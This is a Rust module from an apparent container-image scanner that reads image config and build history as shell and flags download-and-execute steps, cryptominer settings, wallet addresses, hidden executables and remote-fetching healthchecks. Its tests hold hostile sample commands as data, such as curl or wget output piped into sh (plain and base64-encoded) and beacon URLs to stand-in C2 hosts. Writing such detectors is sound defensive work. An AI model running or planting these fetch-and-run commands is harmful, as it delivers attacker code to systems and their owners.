//! Reads the image config and build history. What the image runs goes into the report, and
//! everything that runs or configures it is read as shell: Entrypoint, Cmd, Healthcheck,
//! OnBuild triggers, Env and Label values, and every build step in the history. The shell
//! checks of [`crate::shell`] apply, miner flags, pool addresses and wallets are looked for,
//! and base64 or hex payloads are decoded (bounded) and read again.
//!
//! Where something sits changes what it means. A download piped into a shell in Entrypoint
//! or Cmd runs in every container started from the image (the image ships no payload and
//! fetches it at start); the same line in a build step ran once, at build time, and its
//! result sits in the layers, which the file analyzers read. So download-and-execute is
//! rated per place (`config-download-exec`, `history-download-exec`); every other shell
//! finding keeps its rule.

use std::collections::HashSet;
use std::sync::Arc;

use base64::Engine as _;
use customs_core::{Confidence, Finding, Severity, attack};
use customs_image::manifest::RunConfig;

use crate::ioc::Iocs;
use crate::shell::{self, ShellHit};
use crate::{ImageAnalysis, ImageAnalyzer, ImageView, Rule, miner};

const REMOTE_ADD: Rule = Rule {
    id: "history-remote-add",
    title: "Build step added content straight from a URL",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE],
    description: "An ADD instruction fetched remote content at build time without a checksum; \
        whoever controlled that URL controlled the image. Check what the URL served.",
};

const CONFIG_DOWNLOAD_EXEC: Rule = Rule {
    id: "config-download-exec",
    title: "Container downloads code at start and runs it",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE, "T1105", "T1059.004"],
    description: "What the container runs (Entrypoint, Cmd, Healthcheck or an ONBUILD \
        trigger) fetches content from the network and executes it. The image itself carries \
        no payload and every container pulls whatever the URL serves that day, which is how \
        malicious images stay clean for scanners. Check what the URL serves.",
};

const HISTORY_DOWNLOAD_EXEC: Rule = Rule {
    id: "history-download-exec",
    title: "Build step downloaded code and ran it",
    severity: Severity::Low,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE, "T1105"],
    description: "A build step piped a download into a shell or ran a downloaded file. Common \
        in installers (`curl … | sh`); what it installed is in the layers and is scanned \
        there. Prefer downloads pinned by checksum.",
};

const HISTORY_WIPE_AT_BUILD: Rule = Rule {
    id: "history-shell-history-wipe",
    title: "Build step cleared shell history",
    severity: Severity::Low,
    confidence: Confidence::Low,
    attack: &[attack::MALICIOUS_IMAGE, "T1070.003"],
    description: "A build step removed or disabled shell history. Nobody types in a build, so \
        this is usually tidying, but it is also what attack scripts copied into images do.",
};

const MINER_COMMAND: Rule = Rule {
    id: "config-miner-command",
    title: "Image runs a cryptominer command line",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &[attack::MALICIOUS_IMAGE, attack::RESOURCE_HIJACKING],
    description: "The config or a build step passes cryptominer options (`--donate-level`, \
        a mining algorithm such as `rx/0` or `cryptonight`, `--coin monero`, a pool on a \
        stratum port). Whoever runs the image mines for someone else.",
};

const MINING_POOL: Rule = Rule {
    id: "config-mining-pool",
    title: "Image config names a mining pool",
    severity: Severity::High,
    confidence: Confidence::High,
    attack: &[attack::MALICIOUS_IMAGE, attack::RESOURCE_HIJACKING],
    description: "A stratum URL or a public mining pool's domain (from content/ioc) in what \
        the image runs, its environment, labels or build steps: the image is set up to mine.",
};

const WALLET: Rule = Rule {
    id: "config-wallet-address",
    title: "Image config carries a Monero wallet address",
    severity: Severity::High,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE, attack::RESOURCE_HIJACKING],
    description: "A Monero address (95 or 106 base58 characters starting 4 or 8) in the \
        config or a build step: where mining rewards go.",
};

const EXEC_TEMP: Rule = Rule {
    id: "config-exec-temp-path",
    title: "Container runs a program from a temporary or hidden directory",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE, "T1564.001"],
    description: "Entrypoint or Cmd runs (or sources) a file under /tmp, /var/tmp or /dev/shm, \
        or in a dot-directory, where droppers put payloads so they escape a casual look. \
        Toolchain directories such as .venv, .local and .cargo are not counted.",
};

const HEALTHCHECK_FETCH: Rule = Rule {
    id: "config-healthcheck-remote-fetch",
    title: "Healthcheck contacts a remote host",
    severity: Severity::Medium,
    confidence: Confidence::Medium,
    attack: &[attack::MALICIOUS_IMAGE, "T1105", "T1071"],
    description: "The Healthcheck, which the engine runs every few seconds inside the \
        container, fetches a URL on another host instead of checking the container itself: \
        a beacon or a periodic download channel.",
};

/// Every rule this analyzer gives, for the documentation check in `lib.rs`.
#[cfg(test)]
pub(crate) const RULES: &[&Rule] = &[
    &REMOTE_ADD,
    &CONFIG_DOWNLOAD_EXEC,
    &HISTORY_DOWNLOAD_EXEC,
    &HISTORY_WIPE_AT_BUILD,
    &MINER_COMMAND,
    &MINING_POOL,
    &WALLET,
    &EXEC_TEMP,
    &HEALTHCHECK_FETCH,
];

/// Decoded payloads are read again at most this deep...
const MAX_DECODE_DEPTH: usize = 2;
/// ...and at most this many decoded bytes per image, so a hostile config can not make the
/// analysis expensive.
const DECODE_BUDGET: usize = 64 << 10;
/// Shorter base64 or hex runs are words, hashes and ids more often than payloads.
const MIN_ENCODED: usize = 24;

/// Where a text sits decides what download-and-execute means there.
#[derive(Clone, Copy, PartialEq, Eq)]
enum Kind {
    /// Runs in every container: Entrypoint, Cmd, Healthcheck, ONBUILD RUN.
    Runtime,
    /// Ran once while building: history.
    Build,
    /// Configures rather than runs: Env, other ONBUILD instructions.
    Data,
    /// Describes the image: Labels. Their text is documentation (an install one-liner in a
    /// description is not run), so the shell checks only apply to payloads decoded from it.
    Label,
}

pub(crate) struct ConfigHistory {
    iocs: Arc<Iocs>,
}

impl ConfigHistory {
    pub(crate) fn new(iocs: Arc<Iocs>) -> ConfigHistory {
        ConfigHistory { iocs }
    }
}

/// The URL of a `ADD http…` step, as Docker records it in history.
fn remote_add(created_by: &str) -> Option<&str> {
    let s = created_by
        .trim_start()
        .strip_prefix("/bin/sh -c #(nop) ")
        .unwrap_or(created_by)
        .trim_start();
    let rest = s.strip_prefix("ADD ")?;
    rest.split_whitespace()
        .filter(|w| !w.starts_with("--"))
        .find(|w| w.starts_with("http://") || w.starts_with("https://"))
}

impl ImageAnalyzer for ConfigHistory {
    fn id(&self) -> &'static str {
        "config-history"
    }
    fn version(&self) -> u32 {
        2
    }
    fn analyze(&self, view: &ImageView<'_>, out: &mut ImageAnalysis) {
        let Some(config) = &view.image.config else {
            return;
        };
        out.config = Some(config.summary());
        let mut a = Analysis {
            iocs: &self.iocs,
            findings: Vec::new(),
            seen: HashSet::new(),
            budget: DECODE_BUDGET,
        };
        if let Some(rc) = &config.config {
            a.run_config(rc);
        }
        for (i, step) in config.history.iter().enumerate() {
            let Some(step) = step.created_by.as_deref() else {
                continue;
            };
            let place = format!("history[{i}]");
            if let Some(url) = remote_add(step) {
                a.push(
                    &REMOTE_ADD,
                    format!("{place}: ADD {url} ({})", shell::evidence(step)),
                );
            }
            if let Some(script) = history_script(step) {
                a.text(&place, Kind::Build, &script, false, 0);
            }
        }
        out.findings.extend(a.findings);
    }
}

struct Analysis<'a> {
    iocs: &'a Iocs,
    findings: Vec<Finding>,
    seen: HashSet<(String, String)>,
    budget: usize,
}

impl Analysis<'_> {
    fn push(&mut self, rule: &Rule, evidence: String) {
        if self.seen.insert((rule.id.to_string(), evidence.clone())) {
            let mut f = rule.finding(None, evidence);
            if !f.attack.iter().any(|a| a == attack::MALICIOUS_IMAGE) {
                f.attack.insert(0, attack::MALICIOUS_IMAGE.to_string());
            }
            self.findings.push(f);
        }
    }

    fn run_config(&mut self, rc: &RunConfig) {
        let ep = rc.entrypoint.clone().unwrap_or_default();
        let cmd = rc.cmd.clone().unwrap_or_default();
        // `ENTRYPOINT ["sh", "-c"]` with the script in Cmd.
        if shell_c_index(&ep).is_some_and(|k| k + 1 == ep.len()) && !cmd.is_empty() {
            self.text("Cmd", Kind::Runtime, &cmd[0], true, 0);
        } else {
            if !ep.is_empty() {
                self.text("Entrypoint", Kind::Runtime, &script_of_argv(&ep), true, 0);
            }
            if !cmd.is_empty() {
                self.text("Cmd", Kind::Runtime, &script_of_argv(&cmd), true, 0);
            }
        }
        if let Some(test) = rc.healthcheck.as_ref().and_then(healthcheck_script) {
            let before = self.findings.len();
            self.text("Healthcheck", Kind::Runtime, &test, false, 0);
            let executes = self.findings[before..]
                .iter()
                .any(|f| f.rule == CONFIG_DOWNLOAD_EXEC.id);
            if !executes && let Some(url) = remote_fetch(&test) {
                self.push(
                    &HEALTHCHECK_FETCH,
                    format!("Healthcheck: {}", shell::evidence(&url)),
                );
            }
        }
        for (i, trigger) in rc.on_build.iter().flatten().enumerate() {
            let place = format!("OnBuild[{i}]");
            match onbuild_run(trigger) {
                Some(script) => self.text(&place, Kind::Runtime, &script, false, 0),
                None => self.text(&place, Kind::Data, trigger, false, 0),
            }
        }
        for kv in rc.env.iter().flatten() {
            let (k, v) = kv.split_once('=').unwrap_or((kv, ""));
            self.text(
                &format!("Env {}", shell::evidence(k)),
                Kind::Data,
                v,
                false,
                0,
            );
        }
        for (k, v) in rc.labels.iter().flatten() {
            self.text(
                &format!("Label {}", shell::evidence(k)),
                Kind::Label,
                v,
                false,
                0,
            );
        }
    }

    /// Every check over one text found at `place`; `exec_paths` when the text is what the
    /// container runs, so where its programs live matters.
    fn text(&mut self, place: &str, kind: Kind, text: &str, exec_paths: bool, depth: usize) {
        if text.trim().is_empty() {
            return;
        }
        let multi_line = text.trim().contains('\n');
        let at = |line: usize| {
            if multi_line {
                format!("{place} line {line}")
            } else {
                place.to_string()
            }
        };
        let hits = if kind == Kind::Label {
            Vec::new()
        } else {
            shell::analyze_script(text)
        };
        for h in &hits {
            let rule = place_rule(h, kind);
            self.push(rule, format!("{}: {}", at(h.line), h.evidence));
        }

        let launches_miner = hits
            .iter()
            .any(|h| std::ptr::eq(h.rule, &shell::MINER_LAUNCH));
        if !launches_miner {
            let words = shell::words(text);
            let refs: Vec<&str> = words.iter().map(String::as_str).collect();
            let flags = miner::miner_flags(&refs, self.iocs.pools());
            if !flags.is_empty() {
                self.push(
                    &MINER_COMMAND,
                    format!("{place}: {}", shell::evidence(&flags.join(" "))),
                );
            }
        }

        let mut pools: Vec<String> = miner::stratum_urls(text)
            .into_iter()
            .map(str::to_string)
            .collect();
        for hit in self.iocs.pools().find(text.as_bytes()) {
            let addr = hit.address();
            if !pools.iter().any(|p| p.contains(&addr)) {
                pools.push(format!("{addr} ({})", hit.entry.note));
            }
        }
        if !pools.is_empty() {
            pools.truncate(3);
            self.push(
                &MINING_POOL,
                format!("{place}: {}", shell::evidence(&pools.join(", "))),
            );
        }
        if let Some(w) = miner::monero_wallets(text).first() {
            self.push(&WALLET, format!("{place}: {}", shell::evidence(w)));
        }

        if exec_paths {
            for e in shell::executed_paths(text) {
                if suspicious_exec_path(&e.path) {
                    self.push(
                        &EXEC_TEMP,
                        format!("{}: runs {}", at(e.line), shell::evidence(&e.path)),
                    );
                }
            }
        }

        if depth < MAX_DECODE_DEPTH {
            for (encoding, decoded) in payloads(text, &mut self.budget) {
                let inner = format!("decoded {encoding} in {place}");
                let kind = if kind == Kind::Label {
                    Kind::Data
                } else {
                    kind
                };
                self.text(&inner, kind, &decoded, exec_paths, depth + 1);
            }
        }
    }
}

/// The rule a shell finding gets at this place (see the module comment).
fn place_rule(h: &ShellHit, kind: Kind) -> &'static Rule {
    if std::ptr::eq(h.rule, &shell::DOWNLOAD_EXEC) {
        match kind {
            Kind::Runtime => return &CONFIG_DOWNLOAD_EXEC,
            Kind::Build => return &HISTORY_DOWNLOAD_EXEC,
            Kind::Data | Kind::Label => {}
        }
    }
    if kind == Kind::Build && std::ptr::eq(h.rule, &shell::HISTORY_WIPE) {
        return &HISTORY_WIPE_AT_BUILD;
    }
    h.rule
}

fn is_shell(word: &str) -> bool {
    matches!(
        word.rsplit('/').next().unwrap_or(word),
        "sh" | "bash" | "dash" | "ash" | "zsh" | "ksh" | "mksh"
    )
}

/// A single-dash option cluster holding `c` (`-c`, `-ec`, `-lc`, `-exc`).
fn is_c_option(w: &str) -> bool {
    w.strip_prefix('-').is_some_and(|o| {
        !o.is_empty()
            && !o.starts_with('-')
            && o.contains('c')
            && o.bytes().all(|b| b.is_ascii_alphabetic())
    })
}

/// Index of the `-c` option of `[shell, options…, -c, …]`.
fn shell_c_index(argv: &[String]) -> Option<usize> {
    if !is_shell(argv.first()?) {
        return None;
    }
    let mut k = 1;
    while k < argv.len() {
        let w = argv[k].as_str();
        if is_c_option(w) {
            return Some(k);
        }
        match w {
            "-o" | "+o" => k += 2,
            w if w.starts_with('-') || w.starts_with('+') => k += 1,
            _ => return None,
        }
    }
    None
}

/// The script an exec-form command runs: the `-c` string of a shell, else the command
/// itself, quoted back into one line.
fn script_of_argv(argv: &[String]) -> String {
    match shell_c_index(argv).and_then(|k| argv.get(k + 1)) {
        Some(script) => script.clone(),
        None => argv.iter().map(|a| quote(a)).collect::<Vec<_>>().join(" "),
    }
}

fn quote(s: &str) -> String {
    if !s.is_empty()
        && s.bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"-_./:=@%+,".contains(&b))
    {
        s.to_string()
    } else {
        format!("'{}'", s.replace('\'', "'\\''"))
    }
}

/// The shell script of a `RUN` step as Docker's classic builder (`/bin/sh -c …`,
/// `|2 A=1 B=2 /bin/sh -c …`) or BuildKit (`RUN /bin/sh -c … # buildkit`) records it.
/// Metadata steps (`#(nop)`, ENV, COPY, CMD…) give `None`: the config carries their effect.
fn history_script(created_by: &str) -> Option<String> {
    let s = created_by.trim();
    if s.contains("#(nop)") {
        return None;
    }
    let s = s.strip_suffix("# buildkit").map_or(s, str::trim_end);
    let (s, is_run) = match s.strip_prefix("RUN ") {
        Some(r) => (r.trim_start(), true),
        None => (s, false),
    };
    let s = strip_build_args(s);
    if s.starts_with('[') {
        let argv: Vec<String> = serde_json::from_str(s).ok()?;
        return Some(script_of_argv(&argv));
    }
    match strip_shell_c(s) {
        Some(script) => Some(script.to_string()),
        None if is_run => Some(s.to_string()),
        None => None,
    }
}

/// `|2 A=1 B=2 rest` → `rest` (build arguments Docker records before the command).
fn strip_build_args(s: &str) -> &str {
    let Some(rest) = s.strip_prefix('|') else {
        return s;
    };
    let Some((n, mut rest)) = rest.split_once(' ') else {
        return s;
    };
    let Ok(n) = n.parse::<usize>() else {
        return s;
    };
    for _ in 0..n {
        match rest.split_once(' ') {
            Some((kv, r)) if kv.contains('=') => rest = r,
            _ => return s,
        }
    }
    rest
}

/// `/bin/sh -c SCRIPT`, `/bin/bash -o pipefail -c SCRIPT` → `SCRIPT`, as recorded: the
/// script is not quoted in history, so it is everything after the `-c`.
fn strip_shell_c(s: &str) -> Option<&str> {
    let token = |s: &str| -> Option<(usize, usize)> {
        let start = s.len() - s.trim_start().len();
        let len = s[start..]
            .find(char::is_whitespace)
            .unwrap_or(s.len() - start);
        (len > 0).then_some((start, start + len))
    };
    let (a, b) = token(s)?;
    if !is_shell(&s[a..b]) {
        return None;
    }
    let mut rest = &s[b..];
    for _ in 0..16 {
        let (a, b) = token(rest)?;
        let t = &rest[a..b];
        if is_c_option(t) {
            return Some(rest[b..].trim_start());
        }
        if t == "-o" || t == "+o" {
            let (_, b2) = token(&rest[b..])?;
            rest = &rest[b + b2..];
        } else if t.starts_with('-') || t.starts_with('+') {
            rest = &rest[b..];
        } else {
            return None;
        }
    }
    None
}

/// The script of an `ONBUILD RUN …` trigger.
fn onbuild_run(trigger: &str) -> Option<String> {
    let t = trigger.trim_start();
    let (kw, rest) = t.split_once(char::is_whitespace)?;
    if !kw.eq_ignore_ascii_case("RUN") {
        return None;
    }
    let rest = rest.trim();
    if rest.starts_with('[')
        && let Ok(argv) = serde_json::from_str::<Vec<String>>(rest)
    {
        return Some(script_of_argv(&argv));
    }
    Some(rest.to_string())
}

/// The command of a Healthcheck: `["CMD-SHELL", script]` or `["CMD", argv…]`.
fn healthcheck_script(h: &serde_json::Value) -> Option<String> {
    let test: Vec<&str> = h
        .get("Test")?
        .as_array()?
        .iter()
        .filter_map(|v| v.as_str())
        .collect();
    match test.split_first()? {
        (&"CMD-SHELL", [script, ..]) => Some(script.to_string()),
        (&"CMD", argv) if !argv.is_empty() => {
            let argv: Vec<String> = argv.iter().map(|s| s.to_string()).collect();
            Some(script_of_argv(&argv))
        }
        _ => None,
    }
}

/// A URL on a remote host that a fetching tool in `script` is pointed at.
fn remote_fetch(script: &str) -> Option<String> {
    let words = shell::words(script);
    let fetcher = words.iter().any(|w| {
        matches!(
            w.rsplit('/').next().unwrap_or(w),
            "curl" | "wget" | "fetch" | "lwp-request" | "GET"
        )
    });
    if !fetcher {
        return None;
    }
    words.into_iter().find(|w| {
        let Some((scheme, rest)) = w.split_once("://") else {
            return false;
        };
        matches!(scheme, "http" | "https" | "ftp") && !is_local_host(rest)
    })
}

/// Whether the authority of a URL (`host[:port]/path`) is the container itself or a name
/// only the local network resolves: loopback, `localhost`, a dot-less service name, or a
/// variable the scanner can not see.
fn is_local_host(rest: &str) -> bool {
    let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
    let host_port = authority.rsplit('@').next().unwrap_or_default();
    let host = if let Some(v6) = host_port.strip_prefix('[') {
        v6.split(']').next().unwrap_or_default()
    } else {
        host_port.split(':').next().unwrap_or_default()
    };
    let host = host.to_ascii_lowercase();
    host.is_empty()
        || host.contains('$')
        || host == "localhost"
        || host.ends_with(".localhost")
        || host.starts_with("127.")
        || host == "0.0.0.0"
        || host == "::1"
        || !host.contains('.') && !host.contains(':')
}

/// Toolchain directories whose programs are routinely run by path from Cmd.
const TOOL_DOT_DIRS: &[&str] = &[
    ".venv",
    ".local",
    ".cargo",
    ".rustup",
    ".nvm",
    ".npm",
    ".yarn",
    ".pyenv",
    ".rbenv",
    ".sdkman",
    ".bun",
    ".deno",
    ".dotnet",
    ".nix-profile",
    ".asdf",
    ".volta",
    ".poetry",
    ".pixi",
    ".conda",
];

/// A program path under a temporary directory or in a dot-directory (or a dot-file).
fn suspicious_exec_path(p: &str) -> bool {
    if !p.contains('/') {
        return false;
    }
    let temp = ["/tmp/", "/var/tmp/", "/dev/shm/", "/run/shm/"]
        .iter()
        .any(|t| p.starts_with(t));
    let hidden = p
        .split('/')
        .any(|c| c.starts_with('.') && c != "." && c != ".." && !TOOL_DOT_DIRS.contains(&c));
    temp || hidden
}

/// Base64 and hex runs in `text` that decode to text, each with its encoding, while the
/// decoding budget lasts.
fn payloads(text: &str, budget: &mut usize) -> Vec<(&'static str, String)> {
    let b = text.as_bytes();
    let b64 = |c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/';
    let mut out = Vec::new();
    let mut i = 0;
    while i < b.len() && *budget > 0 {
        if !b64(b[i]) {
            i += 1;
            continue;
        }
        let start = i;
        while i < b.len() && b64(b[i]) {
            i += 1;
        }
        let run = &text[start..i];
        while i < b.len() && b[i] == b'=' && i - start < run.len() + 2 {
            i += 1;
        }
        if run.len() < MIN_ENCODED {
            continue;
        }
        // A run longer than the budget could fill is cut, not skipped: its head still counts.
        let cap = (*budget * 4 / 3 + 4) & !3;
        let run = if run.len() > cap { &run[..cap] } else { run };
        let hex_run = run.len() % 2 == 0 && run.bytes().all(|c| c.is_ascii_hexdigit());
        let decoded = if hex_run {
            hex::decode(run).ok().map(|d| ("hex", d))
        } else {
            None
        }
        .filter(|(_, d)| is_text(d))
        .or_else(|| {
            // One character past a 4-character group carries no whole byte.
            let trimmed = &run[..run.len() - usize::from(run.len() % 4 == 1)];
            base64::engine::general_purpose::STANDARD_NO_PAD
                .decode(trimmed)
                .ok()
                .map(|d| ("base64", d))
                .filter(|(_, d)| is_text(d))
        });
        if let Some((encoding, d)) = decoded {
            *budget = budget.saturating_sub(d.len());
            out.push((encoding, String::from_utf8(d).expect("checked by is_text")));
        }
    }
    out
}

/// UTF-8 that is almost all printable: a script or command, not binary.
fn is_text(d: &[u8]) -> bool {
    let Ok(s) = std::str::from_utf8(d) else {
        return false;
    };
    let total = s.chars().count();
    let printable = s
        .chars()
        .filter(|c| !c.is_control() || matches!(c, '\n' | '\t' | '\r'))
        .count();
    total >= 8 && printable * 100 >= total * 98
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn finds_remote_add_only() {
        assert_eq!(
            remote_add("/bin/sh -c #(nop) ADD https://evil.example/x.tgz /opt/"),
            Some("https://evil.example/x.tgz")
        );
        assert_eq!(
            remote_add("ADD --chown=0:0 http://203.0.113.7/m /usr/bin/m # buildkit"),
            Some("http://203.0.113.7/m")
        );
        assert_eq!(remote_add("/bin/sh -c #(nop) ADD file:abc in / "), None);
        assert_eq!(remote_add("RUN curl https://x.example | sh"), None);
        assert_eq!(remote_add("COPY https-notes.txt /"), None);
    }

    #[test]
    fn history_scripts_in_every_recorded_form() {
        let cases = [
            (
                "/bin/sh -c apt-get update && apt-get install -y curl",
                Some("apt-get update && apt-get install -y curl"),
            ),
            (
                "RUN /bin/sh -c set -eux; make # buildkit",
                Some("set -eux; make"),
            ),
            (
                "RUN |2 A=1 B=x /bin/sh -c echo $A # buildkit",
                Some("echo $A"),
            ),
            ("|1 V=2 /bin/sh -c make V=$V", Some("make V=$V")),
            (
                "RUN /bin/bash -o pipefail -c curl -fsS x | tar -x # buildkit",
                Some("curl -fsS x | tar -x"),
            ),
            ("RUN [\"/bin/sh\",\"-c\",\"id\"] # buildkit", Some("id")),
            ("RUN [\"make\",\"all\"] # buildkit", Some("make all")),
            ("RUN apt-get update", Some("apt-get update")),
            (
                "/bin/sh -c #(nop)  CMD [\"nginx\" \"-g\" \"daemon off;\"]",
                None,
            ),
            ("/bin/sh -c #(nop) ADD file:0a in / ", None),
            ("ENV PATH=/usr/local/bin:/usr/bin", None),
            ("COPY docker-entrypoint.sh /usr/local/bin/ # buildkit", None),
            ("CMD [\"python3\"]", None),
            (
                "# debian.sh --arch 'amd64' out/ 'bookworm' '@1719792000'",
                None,
            ),
        ];
        for (raw, want) in cases {
            assert_eq!(history_script(raw).as_deref(), want, "{raw}");
        }
    }

    #[test]
    fn argv_scripts() {
        let v = |a: &[&str]| a.iter().map(|s| s.to_string()).collect::<Vec<_>>();
        assert_eq!(script_of_argv(&v(&["sh", "-c", "a | b"])), "a | b");
        assert_eq!(script_of_argv(&v(&["/bin/bash", "-ec", "x"])), "x");
        assert_eq!(
            script_of_argv(&v(&["bash", "-o", "pipefail", "-c", "y"])),
            "y"
        );
        assert_eq!(
            script_of_argv(&v(&["nginx", "-g", "daemon off;"])),
            "nginx -g 'daemon off;'"
        );
        assert_eq!(script_of_argv(&v(&["sh", "script.sh"])), "sh script.sh");
    }

    #[test]
    fn healthcheck_fetch_targets() {
        assert_eq!(
            remote_fetch("curl -f http://localhost:8080/ || exit 1"),
            None
        );
        assert_eq!(remote_fetch("wget -qO- http://127.0.0.1/health"), None);
        assert_eq!(remote_fetch("curl -f http://app:3000/ping"), None);
        assert_eq!(remote_fetch("curl -f http://$HOSTNAME:80/"), None);
        assert_eq!(remote_fetch("curl -f http://[::1]:80/"), None);
        assert_eq!(remote_fetch("pg_isready -h db.example.org"), None);
        assert_eq!(
            remote_fetch("curl -s http://203.0.113.7/beat?id=1 >/dev/null").as_deref(),
            Some("http://203.0.113.7/beat?id=1")
        );
        assert_eq!(
            remote_fetch("wget -q -O /dev/null https://c2.example.net/p").as_deref(),
            Some("https://c2.example.net/p")
        );
    }

    #[test]
    fn exec_paths() {
        for p in [
            "/tmp/x",
            "/dev/shm/.k/kworker",
            "/var/tmp/a.sh",
            "/root/.cache/x",
            "./.x",
            "/usr/bin/.sshd",
        ] {
            assert!(suspicious_exec_path(p), "{p}");
        }
        for p in [
            "/usr/local/bin/docker-entrypoint.sh",
            "/app/.venv/bin/uvicorn",
            "/home/u/.local/bin/gunicorn",
            "/tmpfoo/x",
            "python3",
            "./run.sh",
            "/opt/tmp/x",
        ] {
            assert!(!suspicious_exec_path(p), "{p}");
        }
    }

    #[test]
    fn payloads_decode_text_only() {
        let mut budget = DECODE_BUDGET;
        // `curl -s http://203.0.113.7/x.sh | bash` in base64 and in hex.
        let b64 = "Y3VybCAtcyBodHRwOi8vMjAzLjAuMTEzLjcveC5zaCB8IGJhc2g=";
        let got = payloads(&format!("echo {b64} | base64 -d | sh"), &mut budget);
        assert_eq!(
            got,
            [(
                "base64",
                "curl -s http://203.0.113.7/x.sh | bash".to_string()
            )]
        );
        let hx = hex::encode("wget -q http://x.example/m -O- | sh");
        let got = payloads(&format!("echo {hx} | xxd -r -p | sh"), &mut budget);
        assert_eq!(
            got,
            [("hex", "wget -q http://x.example/m -O- | sh".to_string())]
        );
        // Hashes, key ids and paths decode to binary or are too short.
        let clean = "PYTHON_SHA256=f6d419a6d8743ab26700801b4908d26d97e8b986e14f95de31b32de2b0e79554 \
            GPG_KEY=7169605F62C751356D054A26A821E680E5FA6305 /var/lib/postgresql/data \
            PATH=/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin";
        assert!(payloads(clean, &mut budget).is_empty());
        // The budget bounds the work.
        let mut small = 10;
        let long =
            base64::engine::general_purpose::STANDARD.encode("echo hello world, a long line");
        let got = payloads(&long, &mut small);
        assert!(got.iter().all(|(_, d)| d.len() <= 16), "{got:?}");
        assert_eq!(small, 0);
    }
}
